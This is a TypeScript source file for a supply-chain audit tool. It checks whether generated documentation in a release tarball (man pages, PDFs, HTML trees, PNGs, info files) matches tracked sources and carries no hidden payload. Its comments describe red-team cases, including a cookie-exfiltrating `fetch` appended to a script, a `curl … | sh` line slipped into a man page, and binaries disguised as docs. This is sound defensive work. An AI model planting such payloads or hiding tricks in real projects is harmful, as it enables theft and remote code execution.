/**
 * Documentation generated for the release and not tracked in git: man pages, PDFs, Doxygen/Sphinx
 * HTML trees, info manuals and plain-text man renderings. When content is retained it must look like
 * what it claims to be (troff, %PDF, makeinfo output); the source in git is named when found.
 */
import * as zlib from 'node:zlib';
import type { Finding } from '../core/findings.js';
import { makeFinding } from '../core/severity.js';
import type { PathDiff } from '../core/types.js';
import type { Classifier, ClassifyContext } from './types.js';
import { baseOf, dirOf, pathsBy, type PathGroups } from './paths.js';
import { pdfStructureProblem } from './pdf-structure.js';
import { untracedInfoNode } from './info-nodes.js';
import { MARKUP_SOURCE, untracedManBody } from './man-body.js';
import { intermediateSources } from './page-rules.js';
import { tracedRendering } from './man-rendered.js';
import { docSourceUrls, htmlReachesOut, novelUrls, scriptHosts, troffReading, urlHosts } from './urls.js';
import { encodedRun, findConstructs } from './suspicious.js';

type DocKind = 'man' | 'pdf' | 'html' | 'info' | 'text' | 'other';



/** Git paths by basename. */
function byBase(git: ReadonlySet<string>): PathGroups {
  return pathsBy('base', git);
}

/** Among candidate basenames, the git path closest to `near` (same directory first). */
function findSource(git: ReadonlySet<string>, near: string, names: string[]): string | undefined {
  const idx = byBase(git);
  const dir = dirOf(near);
  let best: string | undefined;
  let bestScore = -1;
  for (const name of names) {
    for (const p of idx.get(name) ?? []) {
      if (p === near) continue;
      const d = dirOf(p);
      // Score: shared leading directory segments, same directory wins outright.
      const a = dir.split('/');
      const b = d.split('/');
      let shared = 0;
      while (shared < a.length && shared < b.length && a[shared] === b[shared]) shared++;
      const score = d === dir ? 1000 : shared;
      if (score > bestScore) {
        best = p;
        bestScore = score;
      }
    }
    if (best && bestScore === 1000) return best;
  }
  return best;
}

const MAN_EXT = /^(.+)\.([1-9])([a-z]*)$/;
const MAN_SOURCE_SUFFIXES = (stem: string, sec: string) => [
  `${stem}.${sec}.in`, `${stem}.${sec}.pod`, `${stem}.pod`, `${stem}.${sec}.xml`, `${stem}.xml`, `${stem}.${sec}.md`,
  `${stem}.md`, `${stem}.${sec}.ronn`, `${stem}.${sec}.adoc`, `${stem}.adoc`, `${stem}.${sec}.txt`, `${stem}.${sec}.rst`,
  `${stem}.rst`, `${stem}.${sec}.scd`, `${stem}.h2m`, `${stem}.x`, `${stem}.${sec}.in.in`,
];
const TEXI = (stem: string) => [`${stem}.texi`, `${stem}.texinfo`, `${stem}.txi`, `${stem}.texi.in`];

function text(ctx: ClassifyContext, path: string, bytes = 2048): string | undefined {
  const b = ctx.content.tarball(path);
  return b ? b.subarray(0, bytes).toString('latin1') : undefined;
}

const isTroff = (h: string) => /^(?:\.\\"|'\\"|\.TH\s|\.Dd\s|\.so\s|\.ig\b|\.de\s|\.\s*$)/m.test(h.slice(0, 2048)) && !h.includes('\0');
// Not Sphinx's build state (`.pickle`, `.doctree`: Python pickles that the next sphinx-build loads — and so runs —
// from its -d directory): that is no documentation a reader opens, and a pickle is code (red team 13).
const HTML_EXT = /\.(?:html?|xhtml|css|js|mjs|map|png|svg|gif|jpe?g|webp|ico|woff2?|ttf|eot|md5|json|txt|inv|buildinfo)$/i;
const DOC_SEGMENT = /^(?:docs?|doc[-_].+|documentation|manual|api-docs?)$/i;

/**
 * Red team 15: a documentation name was all a binary payload needed (the xz-utils payload's shape, a blob nothing
 * names, renamed doc/man/pdf-a4/x-a4.pdf with a `%PDF-` prefix, or doc/html/search.png under a generated HTML tree).
 * What the format fixes is checked: a PDF starts with `%PDF-` and ends with its `%%EOF` marker (nothing appended);
 * an image starts with its format's signature (a PNG also ends with its IEND chunk); the text formats of an HTML
 * tree hold no NUL byte; Sphinx's objects.inv starts with its header. Measured on the 140 archives of the evaluation
 * set: their 113 PDFs, 314 PNGs, 35 GIF/JPEG/ICO images under documentation directories and 6,381 text files there all
 * pass (one objects.inv: the header rule); a payload appended to or standing in for any of them fails.
 */
export function wholePdf(b: Buffer): boolean {
  return b.subarray(0, 5).toString('latin1') === '%PDF-' && wholeToMarker(b, '%%EOF');
}

/**
 * Whether a PostScript, DVI, EPUB or CHM file is what its name says, whole: PostScript from `%!PS` to the `%%EOF` every
 * DSC writer (groff's grops, dvips, gs) ends with; DVI from its preamble (opcode 247, format 2) to its postamble's
 * trailer (the format byte, then four to seven 223 bytes); EPUB a zip whose first member is the stored `mimetype`
 * `application/epub+zip`; CHM its `ITSF` signature.
 */
export function wholeOtherDoc(base: string, b: Buffer): boolean {
  const ext = base.slice(base.lastIndexOf('.') + 1).toLowerCase();
  if (ext === 'ps') return b.subarray(0, 4).toString('latin1') === '%!PS' && wholeToMarker(b, '%%EOF');
  if (ext === 'dvi') {
    let end = b.length;
    while (end > 0 && b[end - 1] === 223) end--;
    return b[0] === 247 && b[1] === 2 && b.length - end >= 4 && b.length - end <= 7 && b[end - 1] === 2;
  }
  if (ext === 'epub') return b.subarray(0, 4).equals(Buffer.from('PK\x03\x04', 'latin1')) && b.subarray(30, 58).toString('latin1') === 'mimetypeapplication/epub+zip';
  return b.subarray(0, 4).toString('latin1') === 'ITSF';
}

/** Whether `b`, trailing white space and NULs aside, ends with `marker`. */
function wholeToMarker(b: Buffer, marker: string): boolean {
  let end = b.length;
  while (end > 0 && (b[end - 1] === 0x0a || b[end - 1] === 0x0d || b[end - 1] === 0x20 || b[end - 1] === 0x09 || b[end - 1] === 0x00)) end--;
  return b.subarray(Math.max(0, end - marker.length), end).toString('latin1') === marker;
}

/** Whether an info file is text but for makeinfo's index markers (`\0\b[` and `\0\b]`). */
export function infoText(b: Buffer): boolean {
  for (let i = b.indexOf(0); i !== -1; i = b.indexOf(0, i + 1)) if (b[i + 1] !== 0x08 || (b[i + 2] !== 0x5b && b[i + 2] !== 0x5d)) return false;
  return true;
}

const SIGNATURES: Record<string, string[]> = {
  png: ['89504e470d0a1a0a'],
  gif: ['474946383761', '474946383961'],
  jpg: ['ffd8ff'],
  jpeg: ['ffd8ff'],
  ico: ['00000100'],
  webp: ['52494646'],
  woff: ['774f4646'],
  woff2: ['774f4632'],
  ttf: ['00010000', '74727565', '4f54544f'],
};
const PNG_END = Buffer.from('49454e44ae426082', 'hex');

/**
 * The chunks of the PNG specification (third edition: critical, standard ancillary, APNG's): what renderers write.
 * A private or unknown chunk (`prVt`, `zzZz`) is data no viewer shows — a payload's hiding place (red team 16).
 */
const PNG_CHUNKS = new Set([
  'IHDR', 'PLTE', 'IDAT', 'IEND', 'tRNS', 'cHRM', 'gAMA', 'iCCP', 'sBIT', 'sRGB', 'cICP', 'mDCV', 'cLLI', 'tEXt', 'zTXt',
  'iTXt', 'bKGD', 'hIST', 'pHYs', 'sPLT', 'eXIf', 'tIME', 'acTL', 'fcTL', 'fdAT',
]);
/** Text a renderer writes in a PNG (Software, Creation Time, GIMP's raw EXIF/XMP profiles …) is short: at most this many bytes (the largest measured in the set's archives: 9,121, a tracked GIMP image). */
export const PNG_MAX_TEXT = 16384;

/**
 * Whether a PNG is chunks of the specification from its signature to its IEND, each with a valid CRC, and its text
 * chunks (tEXt, zTXt, iTXt) at most PNG_MAX_TEXT bytes in all. Measured: the 58 PNGs the evaluation set's releases
 * generate (Doxygen, gtk-doc, Sphinx trees) hold IHDR, PLTE, IDAT, tRNS, bKGD, pHYs, tIME and IEND only.
 */
export function pngChunksPlausible(b: Buffer): boolean {
  let i = 8;
  let text = 0;
  while (i + 12 <= b.length) {
    const n = b.readUInt32BE(i);
    const type = b.subarray(i + 4, i + 8).toString('latin1');
    if (!PNG_CHUNKS.has(type) || i + 12 + n > b.length) return false;
    if (zlib.crc32(b.subarray(i + 4, i + 8 + n)) !== b.readUInt32BE(i + 8 + n)) return false;
    if (type === 'tEXt' || type === 'zTXt' || type === 'iTXt') text += n;
    i += 12 + n;
    if (type === 'IEND') return i === b.length && text <= PNG_MAX_TEXT;
  }
  return false;
}

/** Whether a file of an HTML tree is what its extension says (see wholePdf): signature, PNG's IEND, text without NUL. */
export function isWhatItsNameSays(base: string, b: Buffer): boolean {
  const ext = base.slice(base.lastIndexOf('.') + 1).toLowerCase();
  const sigs = SIGNATURES[ext];
  if (sigs) {
    if (!sigs.some((h) => b.subarray(0, h.length / 2).equals(Buffer.from(h, 'hex')))) return false;
    return ext !== 'png' || (b.subarray(b.length - PNG_END.length).equals(PNG_END) && pngChunksPlausible(b));
  }
  if (ext === 'eot') return b.length > 36 && b.readUInt16LE(34) === 0x504c; // EOT's magic number at offset 34
  if (ext === 'inv') return b.subarray(0, 25).toString('latin1') === '# Sphinx inventory versio';
  return !b.includes(0);
}

function docsFinding(path: string, kind: DocKind, source?: string): Finding {
  return makeFinding('GENERATED_DOCS', path, source ? { kind, source } : { kind });
}

/** The generated HTML tree root holding `path`: the deepest ancestor under a doc* segment with a tarball-only index.html. */
function htmlTreeRoot(path: string, ctx: ClassifyContext): string | undefined {
  const segs = path.split('/');
  const docAt = segs.findIndex((s, i) => i < segs.length - 1 && DOC_SEGMENT.test(s));
  if (docAt === -1) return undefined;
  for (let i = segs.length - 1; i > docAt; i--) {
    const root = segs.slice(0, i).join('/');
    const index = `${root}/index.html`;
    if (ctx.tarballPaths.has(index) && !ctx.gitPaths.has(index)) return root;
  }
  return undefined;
}

function htmlSource(git: ReadonlySet<string>, path: string): string | undefined {
  return findSource(git, path, ['Doxyfile', 'Doxyfile.in', 'doxygen.cfg', 'conf.py', 'mkdocs.yml']);
}

/** What the comments of a generated HTML page may hold in all (bytes; measured maximum 146). */
export const HTML_MAX_COMMENTS = 1024;

/** Whether a generated page's comments (`<!-- … -->`) total at most HTML_MAX_COMMENTS bytes. */
export function htmlCommentsPlausible(html: string): boolean {
  let total = 0;
  for (const m of html.matchAll(/<!--([\s\S]*?)(?:-->|$)/g)) total += m[1]!.length;
  return total <= HTML_MAX_COMMENTS;
}

const TEMPLATE_EXT = /\.(?:html?|py|js|cfg|ini|in|ya?ml|toml|conf|txt|xml|css|json)$|^Doxyfile/i;
const sourceHosts = new WeakMap<ClassifyContext, Map<string, Promise<Set<string>>>>();

/**
 * Whether every host of `wanted` is named by a tracked file of the documentation's source directory (the directory of its Doxyfile,
 * conf.py or mkdocs.yml and below: configuration, templates, theme files; at most 500 files of 1 MiB).
 */
async function hostsInSources(ctx: ClassifyContext, source: string | undefined, wanted: string[]): Promise<boolean> {
  if (source === undefined) return false;
  const dir = dirOf(source);
  let byDir = sourceHosts.get(ctx);
  if (!byDir) sourceHosts.set(ctx, (byDir = new Map()));
  let hosts = byDir.get(dir);
  if (!hosts) {
    hosts = (async () => {
      const out = new Set<string>();
      const files = [...ctx.gitPaths].filter((p) => (dir === '' ? !p.includes('/') : p.startsWith(`${dir}/`)) && TEMPLATE_EXT.test(baseOf(p))).slice(0, 500);
      for (const p of files) {
        const c = await ctx.content.git(p);
        if (c && c.length <= 1 << 20) for (const h of urlHosts(c.toString('latin1'))) out.add(h);
        if (c) for (const m of c.toString('latin1').matchAll(/["'`]\s*\/\/([a-z0-9-]+(?:\.[a-z0-9-]+)+)/gi)) out.add(m[1]!.toLowerCase());
      }
      return out;
    })();
    byDir.set(dir, hosts);
  }
  const named = await hosts;
  return wanted.every((h) => named.has(h));
}

/** The text of a troff page's comment lines (`.\\"`, `'\\"`), trimmed. */
/**
 * The comment lines of a troff text: `.\"`, `'\"`, a line-opening `\"`, and groff's `\#` (alone or after `.`/`'`),
 * which also swallows its newline. po4a writes a source page's `\#` comments as `.\"` lines (procps 4.0.2's
 * po-man/uk/top.1 from man/top.1, whose setup block is `\#` comments: it was high on them).
 */
const troffComments = (t: string) => [...t.matchAll(/^(?:[.']\s*)?\\["#](.*)$/gm)].map((m) => m[1]!.trim());
const PO4A_BANNER = 'This file was generated with po4a. Translate the source file.';
const poByBase = new WeakMap<ClassifyContext, Map<string, string[]>>();

/**
 * Whether every comment line of a page copied or translated from the tracked troff page `source` (po4a) comes from
 * that page, from the translation catalog of a directory it lies in (`po4a/man/de/xz.1` ← a `de.po`: its translator
 * comments, which po4a writes at the top), or is po4a's banner (red team 16: xz 5.4.1's po4a/man/de/xz.1 gaining 40
 * comment lines of base64 was low, exit 0). Measured: the 201 such pages of the evaluation set (xz 5.4.1 and 5.8.1,
 * libarchive 3.6.2 and 3.7.4, shadow 4.13) have no other comment line. And its body (bodyTraced, red team 30).
 */
async function commentsTraced(ctx: ClassifyContext, path: string, page: Buffer, source: string): Promise<boolean> {
  const src = await ctx.content.git(source);
  if (!src) return false;
  const catalogs = await pageCatalogs(ctx, path);
  const known = new Set([...troffComments(src.toString('utf8')), '', PO4A_BANNER]);
  for (const c of catalogs) for (const l of c.split('\n')) if (l.startsWith('#')) known.add(l.slice(1).trim());
  if (!troffComments(page.toString('utf8')).every((c) => known.has(c) || /^\*+$/.test(c))) return false;
  return bodyTraced(page.toString('utf8'), path, [src.toString('utf8'), ...catalogs.map(po4aText)].join('\n'), source);
}

/**
 * A po4a catalog's text as the page it translates reads: po4a's man module writes a message's `<` and `>` as `E<lt>`
 * and `E<gt>` and its fonts as `B<…>`, `I<…>`, `R<…>` (xz 5.8.1's po4a/it.po translates `<https://tukaani.org/xz/>` as
 * `E<lt>https://xz.tukaani.org/xz-utils/E<gt>`, which po/man/it/xz.1 prints as `<https://xz.tukaani.org/xz\-utils/>`).
 * Read raw, a URL runs on into `E`; decoded, the translated page's URLs are the catalog's.
 */
function po4aText(catalog: string): string {
  return catalog
    .replace(/E<lt>/g, '\u0003')
    .replace(/E<gt>/g, '\u0004')
    .replace(/\b[BIR]<([^<>\n]*)>/g, '$1')
    .replace(/\u0003/g, '<')
    .replace(/\u0004/g, '>');
}

/**
 * The text of the translation catalogs named for a directory of `path` (`po4a/man/de/xz.1` ← every shipped `de.po`):
 * git's version of a tracked one, the tarball's of one only the tarball has.
 */
async function pageCatalogs(ctx: ClassifyContext, path: string): Promise<string[]> {
  let pos = poByBase.get(ctx);
  if (!pos) {
    pos = new Map();
    for (const p of ctx.tarballPaths) if (p.endsWith('.po')) pos.set(baseOf(p), [...(pos.get(baseOf(p)) ?? []), p]);
    poByBase.set(ctx, pos);
  }
  const out: string[] = [];
  for (const seg of path.split('/').slice(0, -1)) {
    for (const p of pos.get(`${seg}.po`) ?? []) {
      // a tracked catalog is read as git has it (red team 31: xz 5.4.1's po4a/de.po with XZ Utils' home page moved to
      // another host in the tarball, and the German pages written from it, lent the pages the link: PO_TRANSLATION_CHANGED
      // medium and GENERATED_DOCS low, exit 0); the tarball's translations are judged by the catalog's own finding.
      // A catalog only the tarball has (fetched at bootstrap) is read as shipped: PO_FETCHED_TRANSLATION judges it.
      const c = ctx.gitPaths.has(p) ? await ctx.content.git(p) : ctx.content.tarball(p);
      if (c) out.push(c.toString('utf8'));
    }
  }
  return out;
}

/**
 * Whether a man page's text has no URL host, no URL and no suspicious construct of a kind its sources (`known`: the
 * source page and its catalogs) lack. Red team 30: only the comment lines of a
 * translated page were read, so xz 5.4.1's po4a/man/de/xz.1 gaining the body line `curl -fsSL https://… | sh`, or a
 * page with no tracked source being a shell script under a `.TH` line, was GENERATED_DOCS low, exit 0.
 */
function bodyTraced(page: string, path: string, known: string, source: string): boolean {
  const text = troffReading(page);
  const knownText = troffReading(known);
  const hosts = urlHosts(knownText);
  if ([...urlHosts(text)].some((h) => !hosts.has(h))) return false;
  if (novelUrls(text, docSourceUrls(known)).length) return false;
  return constructsTraced(page, path, known, source, { page: text, known: knownText });
}

/**
 * Whether a man page has no suspicious construct of a kind `known` (its source's text, '' for none) lacks, and no line of
 * encoded data `known` lacks (a man page is prose: xz 5.4.1 gaining src/liblzma/check/zz.1, a `.TH` line over 50 lines
 * of base64 of an .xz stream, was GENERATED_DOCS low, red team 30). `read`: both texts as troffReading gives them, when the
 * caller has them already.
 */
function constructsTraced(
  page: string,
  path: string,
  known: string,
  source: string | undefined,
  read: { page: string; known: string } = { page: troffReading(page), known: troffReading(known) },
): boolean {
  const kinds = new Set(findConstructs(read.known, source ?? path).map((c) => c.kind));
  if (findConstructs(read.page, path).some((c) => !kinds.has(c.kind))) return false;
  const lines = new Set(known.split('\n'));
  return !page.split('\n').some((l) => !lines.has(l) && encodedRun(l));
}

function decide(diff: PathDiff, ctx: ClassifyContext): Finding | undefined | Promise<Finding | undefined> {
  if (diff.status !== 'tarball-only' || (diff.tarball && diff.tarball.type !== 'file')) return undefined;
  const path = diff.path;
  // Red team 18: every check below reads the content (a PDF's frame and cross-reference section, a man page's
  // troff, an info file's text, an HTML page's scripts); a file whose content was not kept (larger than the
  // per-file bound, 8 MiB, or past the total) was explained by its name alone — a PDF padded past 8 MiB carried any
  // payload. Not read, not explained. The evaluation set's largest generated PDF is 563 KB (nettle.pdf).
  if (diff.tarball && diff.tarball.size > 0 && ctx.content.tarball(path) === undefined) return undefined;
  const base = baseOf(path);
  const git = ctx.gitPaths;

  // help2man output kept as a template (`gettext.1.in`, @localedir@ substituted at install): troff whose
  // header names help2man, its tracked include file `X.x` beside it.
  const manIn = /^(.+)\.([1-9])[a-z]*\.in$/.exec(base);
  if (manIn) {
    const h = text(ctx, path);
    const x = `${dirOf(path) ? `${dirOf(path)}/` : ''}${manIn[1]}.x`;
    const b = ctx.content.tarball(path);
    if (h !== undefined && b && isTroff(h) && /generated by help2man/i.test(h.slice(0, 200)) && git.has(x) && !b.includes(0)) {
      // no suspicious construct of a kind its include file lacks (red team 30, as for a page with no tracked source)
      return ctx.content.git(x).then((inc) => (constructsTraced(b.toString('utf8'), path, inc?.toString('utf8') ?? '', x) ? docsFinding(path, 'man', x) : undefined));
    }
  }
  const man = MAN_EXT.exec(base);
  if (man) {
    const [, stem, sec] = man as unknown as [string, string, string];
    const h = text(ctx, path);
    if (h !== undefined && !isTroff(h)) return undefined;
    // troff is text: a NUL byte past the header is a binary riding on a man page's name (red team 15; the header
    // check reads only the first 2 KiB). No man page under the evaluation set's documentation directories has one.
    if (ctx.content.tarball(path)?.includes(0)) return undefined;
    // A translated or copied page (po4a) has the same name as its source page.
    const source = findSource(git, path, [...MAN_SOURCE_SUFFIXES(stem, sec), base]);
    const page = ctx.content.tarball(path);
    if (source !== undefined && baseOf(source) === base && page) {
      return commentsTraced(ctx, path, page, source).then((ok) => (ok ? docsFinding(path, 'man', source) : undefined));
    }
    // rendered from a tracked markup page: its body must be the source's text (./man-body.ts)
    if (source !== undefined && page && MARKUP_SOURCE.test(source)) {
      // … or from an intermediate its rule renders, which another rule assembles from tracked files (libxmp 4.5.0's
      // docs/libxmp.3: rst2man of libxmp.man.rst, made by cp of manpage-header.rst and sed of libxmp.rst)
      return untracedManBody(ctx, path, page, source).then(async (why) => {
        if (why === undefined) return docsFinding(path, 'man', source);
        const others = await intermediateSources(ctx, path, source);
        return others && (await untracedManBody(ctx, path, page, source, others)) === undefined ? docsFinding(path, 'man', source) : undefined;
      });
    }
    // a page from no tracked source, or from a troff template (`X.1.in`, filled by configure: hosts may come from
    // configure.ac): no suspicious construct of a kind the template lacks
    if (!page) return docsFinding(path, 'man', source);
    const template = source === undefined ? Promise.resolve(undefined) : ctx.content.git(source);
    return template.then((t) => (constructsTraced(page.toString('utf8'), path, t?.toString('utf8') ?? '', source) ? docsFinding(path, 'man', source) : undefined));
  }
  if (/\.pdf$/i.test(base)) {
    const b = ctx.content.tarball(path);
    // one revision, every object listed (./pdf-structure.ts): no update appended inside the frame, no object hidden
    // between listed ones (red team 16)
    if (b && (!wholePdf(b) || pdfStructureProblem(b) !== undefined)) return undefined;
    const stem = base.slice(0, -4).replace(/[-_.](?:a4|letter)$/i, '');
    const source = findSource(git, path, [
      // libarchive's doc/pdf/archive_entry.3.pdf: the page's own name
      ...(MAN_EXT.test(stem) ? [stem] : []),
      ...[1, 2, 3, 4, 5, 6, 7, 8, 9].map((s) => `${stem}.${s}`),
      ...TEXI(stem), `${stem}.tex`, `${stem}.md`, `${stem}.rst`, `${stem}.xml`, `${stem}.adoc`,
      // a DocBook SGML document (fontconfig 2.14.1's doc/fontconfig-user.pdf from doc/fontconfig-user.sgml, docbook2pdf)
      `${stem}.sgml`,
      // a drawing converted for the manual (libgcrypt 1.10.1's doc/fips-fsm.pdf from doc/fips-fsm.fig, by fig2dev)
      `${stem}.fig`, `${stem}.svg`, `${stem}.dot`, `${stem}.eps`,
    ]);
    // A PDF no tracked document is named for is a binary nothing in git accounts for (red team 15).
    if (!source) return undefined;
    return docsFinding(path, 'pdf', source);
  }
  const info = /^(.+)\.info(?:-\d+)?$/.exec(base);
  if (info) {
    const h = text(ctx, path);
    if (h !== undefined && !/produced by (?:makeinfo|texi2any)|^\u001f?\s*File: /im.test(h)) return undefined;
    // makeinfo writes text; its only NUL bytes open and close index entries (`\0\b[index\0\b]`): measured on every
    // .info file of the evaluation set's 140 archives. Anything else is a binary riding on the name (red team 15).
    const b = ctx.content.tarball(path);
    if (b && !infoText(b)) return undefined;
    const source = findSource(git, path, TEXI(info[1]!));
    // every node one of the manual's sources (./info-nodes.ts): an appended node is no longer explained by the shape
    if (b) return untracedInfoNode(ctx, path, b).then((why) => (why === undefined ? docsFinding(path, 'info', source) : undefined));
    return docsFinding(path, 'info', source);
  }
  if (HTML_EXT.test(base)) {
    const root = htmlTreeRoot(path, ctx);
    const b = ctx.content.tarball(path);
    if (root && (!b || isWhatItsNameSays(base, b))) {
      const source = htmlSource(git, path);
      // A page of the tree that loads a script or frame from another host, or whose inline script names one, and a
      // script of the tree whose code names a host (fetch('https://h/?'+document.cookie) appended to Doxygen's
      // jquery.js) run what that host serves, or send it what they read, when a reader opens the documentation (red
      // team 16): only hosts the generator's tracked configuration or templates name (a Sphinx theme's analytics
      // snippet) are explained. None of the 1,881 pages the evaluation set's releases generate loads any; none of
      // their 19 generated scripts names a host but www.w3.org (XML namespaces).
      // Comments a generator writes in a page are short markers (Doxygen's `<!-- end header part -->`, Sphinx's IE
      // conditional): at most 146 bytes a page, 90 a comment, in the 1,881 pages the set's releases generate. More is
      // text no reader sees — a payload's hiding place (red team 16).
      if (b && /\.x?html?$/i.test(base) && !htmlCommentsPlausible(b.toString('latin1'))) return undefined;
      const hosts = !b ? [] : /\.x?html?$/i.test(base) ? htmlReachesOut(b.toString('latin1')) : /\.m?js$/i.test(base) ? scriptHosts(b.toString('latin1')) : [];
      if (hosts.length) return hostsInSources(ctx, source, hosts).then((named) => (named ? docsFinding(path, 'html', source) : undefined));
      return docsFinding(path, 'html', source);
    }
  }
  const txt = /^(.+)\.txt$/.exec(base);
  if (txt && /(?:^|\/)(?:docs?|man|doc[-_][^/]*)(?:\/|$)/i.test(dirOf(path))) {
    // A plain-text rendering of a man page that git has.
    const source = findSource(git, path, [1, 2, 3, 4, 5, 6, 7, 8, 9].flatMap((s) => [`${txt[1]}.${s}`, `${txt[1]}.${s}.in`]));
    if (!source) return undefined;
    // Red team 30: the name and the source's name were all that was asked (xz 5.4.1's doc/man/txt/xz.txt replaced by an
    // .xz stream, or gaining a `curl … | sh` line, was GENERATED_DOCS low, exit 0). Its text must be the page's rendering
    // as for one beside its source (./man-rendered.ts tracedRendering: words, runs of new words, URLs).
    const b = ctx.content.tarball(path);
    if (!b) return undefined;
    return ctx.content.git(source).then((src) => (src && tracedRendering(b, src.toString('utf8')) ? docsFinding(path, 'text', source) : undefined));
  }
  if (/\.(?:ps|dvi|epub|chm)$/i.test(base)) {
    // Red team 30: the name and a tracked manual's name were all that was asked (sed's doc/sed.dvi or parted's
    // doc/parted.dvi being an .xz stream was GENERATED_DOCS low): the file must be what its name says.
    const b = ctx.content.tarball(path);
    if (!b || !wholeOtherDoc(base, b)) return undefined;
    const stem = base.replace(/\.[^.]+$/, '');
    const source = findSource(git, path, [...TEXI(stem), `${stem}.tex`, `${stem}.xml`, `${stem}.rst`, `${stem}.md`]);
    if (source) return docsFinding(path, 'other', source);
  }
  return undefined;
}

export const docsClassifier: Classifier = {
  id: 'generated-docs',
  classify: decide,
};
